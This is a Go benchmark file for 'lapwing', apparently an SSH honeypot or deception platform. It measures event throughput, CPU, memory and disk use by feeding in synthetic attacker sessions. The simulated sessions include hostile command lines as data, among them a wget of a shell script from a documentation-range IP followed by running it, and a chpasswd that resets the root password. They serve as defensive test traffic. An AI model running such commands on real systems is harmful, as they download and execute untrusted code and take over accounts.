package bench

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"math/rand/v2"
	"net"
	"net/http"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"runtime/debug"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/lapwing-defence/lapwing/internal/event"
	"github.com/lapwing-defence/lapwing/internal/journal/uplink"
)

// whole is a running lapwing, every process of it.
type whole struct {
	dir string
	cmd *exec.Cmd
	api *http.Client
}

// binary is the program to measure: LAPWING_BIN, else built here.
func binary(b *testing.B) string {
	b.Helper()
	if bin := os.Getenv("LAPWING_BIN"); bin != "" {
		return bin
	}
	bin := filepath.Join(b.TempDir(), "lapwing")
	c := exec.Command("go", "build", "-trimpath", "-ldflags", "-s -w", "-o", bin, "github.com/lapwing-defence/lapwing/cmd/lapwing")
	if out, err := c.CombinedOutput(); err != nil {
		b.Fatalf("build: %v\n%s", err, out)
	}
	return bin
}

// up starts it and gives the time until it was ready.
func up(b *testing.B) (*whole, time.Duration) {
	b.Helper()
	dir, err := os.MkdirTemp("", "lw") //nolint:usetesting // the path of a socket is short by law
	if err != nil {
		b.Fatal(err)
	}
	b.Cleanup(func() { os.RemoveAll(dir) })
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		b.Fatal(err)
	}
	ln.Close()
	conf := fmt.Sprintf("hosts:\n  - name: files\n    persona: debian-server\n    login: {accept: [{user: root, password: admin}]}\n    decoys:\n      - {type: ssh, listen: %q}\n", ln.Addr())
	if err := os.WriteFile(filepath.Join(dir, "c.yaml"), []byte(conf), 0o600); err != nil {
		b.Fatal(err)
	}
	w := &whole{dir: filepath.Join(dir, "d"), cmd: exec.Command(binary(b), "up", "--quiet", "--data", filepath.Join(dir, "d"), "--config", filepath.Join(dir, "c.yaml"))}
	w.cmd.Stderr = os.Stderr
	out, err := w.cmd.StdoutPipe()
	if err != nil {
		b.Fatal(err)
	}
	began := time.Now()
	if err := w.cmd.Start(); err != nil {
		b.Fatal(err)
	}
	b.Cleanup(w.stop)
	sc := bufio.NewScanner(out)
	for sc.Scan() {
		if sc.Text() == "ready" {
			break
		}
	}
	took := time.Since(began)
	go func() {
		io.Copy(io.Discard, out)
	}()
	w.api = &http.Client{Transport: &http.Transport{DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
		var d net.Dialer
		return d.DialContext(ctx, "unix", filepath.Join(w.dir, "run", "api.sock"))
	}}}
	return w, took
}

func (w *whole) stop() {
	if w.cmd.ProcessState == nil {
		w.cmd.Process.Signal(syscall.SIGTERM)
		w.cmd.Wait()
	}
}

// processes are the supervisor and its children by name.
func (w *whole) processes() map[string]int {
	out := map[string]int{"up": w.cmd.Process.Pid}
	kids, _ := os.ReadFile(fmt.Sprintf("/proc/%d/task/%d/children", w.cmd.Process.Pid, w.cmd.Process.Pid))
	tasks, _ := filepath.Glob(fmt.Sprintf("/proc/%d/task/*/children", w.cmd.Process.Pid))
	for _, t := range tasks {
		more, _ := os.ReadFile(t)
		kids = append(append(kids, ' '), more...)
	}
	for f := range strings.FieldsSeq(string(kids)) {
		pid, _ := strconv.Atoi(f)
		line, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
		if args := strings.Split(string(line), "\x00"); len(args) > 1 {
			out[args[1]] = pid
		}
	}
	return out
}

// cpu is the CPU time that a process has used, 10 ms exact.
func cpu(pid int) time.Duration {
	data, _ := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
	f := strings.Fields(string(data[strings.LastIndexByte(string(data), ')')+1:]))
	if len(f) < 13 {
		return 0
	}
	user, _ := strconv.Atoi(f[11])
	sys, _ := strconv.Atoi(f[12])
	return time.Duration(user+sys) * 10 * time.Millisecond
}

// pss is the memory of a process, shared pages divided among those that share them.
func pss(pid int) int64 {
	data, _ := os.ReadFile(fmt.Sprintf("/proc/%d/smaps_rollup", pid))
	for line := range strings.Lines(string(data)) {
		if rest, ok := strings.CutPrefix(line, "Pss:"); ok {
			n, _ := strconv.ParseInt(strings.Fields(rest)[0], 10, 64)
			return n << 10
		}
	}
	return 0
}

type status struct {
	Journal struct {
		Bytes   int64
		Appends uint64
	} `json:"journal"`
	Keeper struct {
		Kept, Position string
		Inserted       uint64
		Refused        uint64
		Checkpoints    uint64
		Doubts         uint64
	} `json:"keeper"`
	Judge struct {
		Events int64
	} `json:"judge"`
	EventLog struct {
		Rows, Bytes, Dropped, InMemory int64
	} `json:"event_log"`
}

func (w *whole) status(b *testing.B) (s status) {
	b.Helper()
	resp, err := w.api.Get("http://hub/status")
	if err != nil {
		b.Fatal(err)
	}
	defer resp.Body.Close()
	if err := json.NewDecoder(resp.Body).Decode(&s); err != nil {
		b.Fatal(err)
	}
	return s
}

// visit makes the events of one visit to an SSH decoy, as the decoys do.
func visit(ids *event.IDs, r *rand.Rand, emit func(event.Event) bool) bool {
	src := netip.AddrPortFrom(netip.AddrFrom4([4]byte{198, 18, byte(r.IntN(256)), byte(r.IntN(256))}), uint16(1024+r.IntN(60000)))
	base := event.Event{
		Dataset: "decoy.ssh", Source: src, Destination: netip.MustParseAddrPort("192.0.2.10:22"), Transport: "tcp", Protocol: "ssh",
		Host: "files", Decoy: "ssh", Persona: "debian-server", Connection: ids.New(),
	}
	session := ids.New()
	send := func(action string, depth event.Depth, fn func(*event.Event)) bool {
		e := base
		e.ID, e.Time, e.Depth = ids.New(), time.Now(), depth
		e.Describe(action)
		fn(&e)
		return emit(e)
	}
	user := []string{"root", "admin", "ubuntu", "oracle", "pi", "test"}[r.IntN(6)]
	ok := send(event.ActionConnectionOpened, event.DepthTouch, func(e *event.Event) { e.LogType = 4000 }) &&
		send(event.ActionClientIdentified, event.DepthTouch, func(e *event.Event) {
			e.LogType = 4001
			e.Add("user_agent.original", "SSH-2.0-libssh2_1."+strconv.Itoa(r.IntN(10))+".0")
			e.Add("lapwing.ssh.hassh", []string{"92674389fa1e47a27ddd8d9b63ecd42b", "16443846184eafde36765c9bab2f4397", "98f63c4d9c87edbd97ed4747fa031019"}[r.IntN(3)])
			e.Add("lapwing.ssh.kex", "curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,diffie-hellman-group14-sha256")
			e.Add("lapwing.ssh.ciphers", "aes256-gcm@openssh.com,chacha20-poly1305@openssh.com,aes256-ctr")
		}) &&
		send(event.ActionLogin, event.DepthTry, func(e *event.Event) {
			e.LogType, e.User, e.Outcome = 4002, user, "success"
			e.Add("lapwing.login.method", "password")
			e.Add("lapwing.password.text", "p"+strconv.Itoa(r.IntN(5000)))
		}) &&
		send(event.ActionSessionStarted, event.DepthEnter, func(e *event.Event) {
			e.Session, e.User = session, user
			e.Add("lapwing.session.kind", "exec")
		})
	for i := 0; ok && i < 3; i++ {
		ok = send(event.ActionCommandExecuted, event.DepthAct, func(e *event.Event) {
			e.Session, e.User, e.HasExit = session, user, true
			e.CommandLine = []string{
				"uname -a", "cat /proc/cpuinfo | grep name | wc -l",
				fmt.Sprintf("cd /tmp && wget http://203.0.113.%d/%x.sh && sh %x.sh", r.IntN(256), r.Uint32(), r.Uint32()),
				fmt.Sprintf("echo \"root:%x\" | chpasswd", r.Uint64()),
			}[r.IntN(4)]
			e.Add("process.name", strings.Fields(e.CommandLine)[0])
			e.Add("process.working_directory", "/root")
			e.AddInt("process.pid", int64(1000+r.IntN(30000)))
		})
	}
	return ok && send(event.ActionSessionEnded, event.DepthEnter, func(e *event.Event) {
		e.Session, e.User = session, user
		e.AddInt("event.duration", int64(r.IntN(2_000_000_000)))
		e.AddInt("lapwing.session.commands", 3)
	}) && send(event.ActionConnectionClosed, event.DepthEnter, func(e *event.Event) {
		e.AddInt("event.duration", int64(r.IntN(2_000_000_000)))
		e.AddInt("source.bytes", int64(2000+r.IntN(500)))
		e.AddInt("destination.bytes", int64(2500+r.IntN(900)))
	})
}

// pace lets events through at a rate.
type pace struct {
	start time.Time
	rate  float64
	n     atomic.Int64
}

// next is when the next event is due; false when it is after end.
func (p *pace) next(end time.Time) bool {
	due := p.start.Add(time.Duration(float64(p.n.Add(1)) / p.rate * 1e9))
	if due.After(end) {
		return false
	}
	if d := time.Until(due); d > 2*time.Millisecond { // a timer for each would cost more than the events
		time.Sleep(d)
	}
	return true
}

// BenchmarkEventsToLog sends events from decoy event to event log: the client
// that the decoy worker uses, the hub, the journal with its syncs, the event
// log. LAPWING_RATE events a second (50,000), for 20 s, with LAPWING_SOAK for
// five minutes. A backlog is what was acknowledged and is not in the log, or is
// not judged; that of both is shown ten times over the span, and how long they
// need for it afterwards.
func BenchmarkEventsToLog(b *testing.B) {
	rate, span := 50_000.0, 20*time.Second
	if os.Getenv("LAPWING_SOAK") != "" {
		span = 5 * time.Minute
	}
	if r, err := strconv.ParseFloat(os.Getenv("LAPWING_RATE"), 64); err == nil {
		rate = r
	}
	for b.Loop() {
		eventsToLog(b, rate, span)
	}
}

func eventsToLog(b *testing.B, rate float64, span time.Duration) {
	b.Helper()
	w, _ := up(b)
	c, err := uplink.NewClient(uplink.ClientConfig{Name: "bench", Dial: func(ctx context.Context) (net.Conn, error) {
		var d net.Dialer
		return d.DialContext(ctx, "unix", filepath.Join(w.dir, "run", "journal.sock"))
	}})
	if err != nil {
		b.Fatal(err)
	}
	ctx, cancel := context.WithCancel(b.Context())
	running := make(chan struct{})
	go func() { defer close(running); c.Run(ctx) }()
	procs := w.processes()
	before := map[string]time.Duration{}
	for name, pid := range procs {
		before[name] = cpu(pid)
	}
	self := cpu(os.Getpid())
	defer debug.SetGCPercent(debug.SetGCPercent(400))
	ids := event.NewIDs(nil, time.Now)
	p := &pace{start: time.Now(), rate: rate}
	end := p.start.Add(span)
	var acked, failed atomic.Int64
	var wg sync.WaitGroup
	for i := range 1500 {
		wg.Go(func() {
			r := rand.New(rand.NewPCG(1, uint64(i)))
			for visit(ids, r, func(e event.Event) bool {
				if !p.next(end) {
					return false
				}
				if c.Emit(ctx, e) == nil {
					acked.Add(1)
				} else {
					failed.Add(1)
				}
				return true
			}) {
			}
		})
	}
	var lags, unjudged []int64
	for time.Now().Before(end) {
		time.Sleep(span / 10)
		st := w.status(b)
		lags = append(lags, acked.Load()-int64(st.Keeper.Inserted))
		unjudged = append(unjudged, acked.Load()-st.Judge.Events)
	}
	wg.Wait()
	took := time.Since(p.start)
	w.drained(b, acked.Load())
	drain := time.Since(p.start) - took
	var total time.Duration
	var report strings.Builder
	fmt.Fprintf(&report, "%d events in %.1f s = %.0f/s, %d not acknowledged\n  backlog of the log   %v events\n  backlog of the judge %v events; both %.1f s after the last event none\n",
		acked.Load(), took.Seconds(), float64(acked.Load())/took.Seconds(), failed.Load(), lags, unjudged, drain.Seconds())
	procs["generator"], before["generator"] = os.Getpid(), self
	for name, pid := range procs {
		used := cpu(pid) - before[name]
		total += used
		fmt.Fprintf(&report, "  %-9s %6.2f CPU-s, %5.1f us an event\n", name, used.Seconds(), used.Seconds()*1e6/float64(acked.Load()))
	}
	fmt.Fprintf(&report, "  together  %6.2f CPU-s of %.1f on two cores\n", total.Seconds(), 2*(took+drain).Seconds())
	b.ReportMetric(float64(acked.Load())/took.Seconds(), "events/s")
	b.ReportMetric(total.Seconds()*1e6/float64(acked.Load()), "CPU-us/event")
	b.ReportMetric(float64(max(lags[len(lags)-1], unjudged[len(unjudged)-1])), "backlog")
	cancel()
	<-running
	w.settled(b)
	st := w.status(b)
	w.stop() // the last to close the casebook empties its write-ahead log
	var size float64
	fmt.Fprint(&report, "  on disk after the merge, in bytes an event:")
	for name, parts := range map[string][]string{"event log": {"eventlog"}, "casebook": {"casebook.db", "casebook.db-wal"}, "journal": {"journal"}} {
		n := float64(usage(w.dir, parts...)) / float64(acked.Load())
		size += n
		fmt.Fprintf(&report, " %s %.1f,", name, n)
	}
	fmt.Fprintf(&report, " together %.1f\n", size)
	b.ReportMetric(size, "bytes/event")
	fmt.Fprint(os.Stderr, report.String())
	if st.EventLog.Rows < acked.Load() || st.Keeper.Refused > 0 || st.EventLog.Dropped > 0 {
		b.Errorf("%d acknowledged, in the log %d, refused %d, dropped %d", acked.Load(), st.EventLog.Rows, st.Keeper.Refused, st.EventLog.Dropped)
	}
}

// drained waits until everything is in the log and judged.
func (w *whole) drained(b *testing.B, want int64) {
	b.Helper()
	for range 3000 {
		if st := w.status(b); int64(st.Keeper.Inserted) >= want && st.Judge.Events >= want {
			return
		}
		time.Sleep(100 * time.Millisecond)
	}
	b.Fatal("log and judge are not through after five minutes")
}

// settled waits until the journal is let go, and has the log merged.
func (w *whole) settled(b *testing.B) {
	b.Helper()
	for range 600 {
		st := w.status(b)
		if st.Keeper.Kept == st.Keeper.Position && st.EventLog.InMemory == 0 && st.Journal.Bytes < 1<<20 {
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	store := &http.Client{Transport: &http.Transport{DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
		var d net.Dialer
		return d.DialContext(ctx, "unix", filepath.Join(w.dir, "run", "store.sock"))
	}}}
	resp, err := store.Post("http://store/internal/force_merge", "", nil)
	if err != nil {
		b.Fatal(err)
	}
	resp.Body.Close()
	for size := int64(0); ; { // it goes on by itself; done when nothing changes any more
		time.Sleep(500 * time.Millisecond)
		now := usage(w.dir, "eventlog")
		if now == size {
			return
		}
		size = now
	}
}

func usage(dir string, parts ...string) (sum int64) {
	for _, p := range parts {
		filepath.WalkDir(filepath.Join(dir, p), func(_ string, d fs.DirEntry, err error) error {
			if err == nil && d.Type().IsRegular() {
				if st, err := d.Info(); err == nil {
					sum += st.Size()
				}
			}
			return nil
		})
	}
	return sum
}

// BenchmarkIdle measures the start, and the memory of all processes at rest.
func BenchmarkIdle(b *testing.B) {
	for b.Loop() {
		w, took := up(b)
		time.Sleep(10 * time.Second)
		var sum int64
		procs := w.processes()
		if len(procs) < 4 {
			b.Fatalf("processes are missing: %v", procs)
		}
		for name, pid := range procs {
			n := pss(pid)
			sum += n
			fmt.Fprintf(os.Stderr, "  %-7s %5.1f MB PSS, %.2f CPU-s\n", name, float64(n)/1e6, cpu(pid).Seconds())
		}
		b.ReportMetric(float64(sum)/1e6, "MB-idle")
		b.ReportMetric(float64(took.Milliseconds()), "ms-to-ready")
		w.stop()
	}
}
